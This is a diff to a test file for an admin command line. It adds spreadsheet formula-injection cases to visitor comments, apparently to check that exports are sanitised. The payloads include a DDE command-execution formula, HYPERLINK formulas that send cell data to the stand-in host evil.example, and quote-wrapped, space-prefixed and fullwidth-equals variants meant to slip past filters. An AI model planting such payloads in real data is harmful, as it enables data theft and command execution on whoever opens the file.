@@ -209,6 +209,9 @@ describe.each(backends)("the admin command line on %s", (backend) => {
         ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")'],
         ["+Alex", "-2+3"],
         ["@Sam", "@SUM(1+1)"],
+        // Quote-aware importers strip the quotes, or the spaces, and run what is left.
+        ['"=1+1"', '"=HYPERLINK(""http://evil.example"",""x"")"'],
+        [" =Lee", "\uff1dSUM(1+1)"],
       ];
       for (const [name, content] of formulas) {
         expect((await t.visitor().comment(post, content!, name)).statusCode).toBe(201);
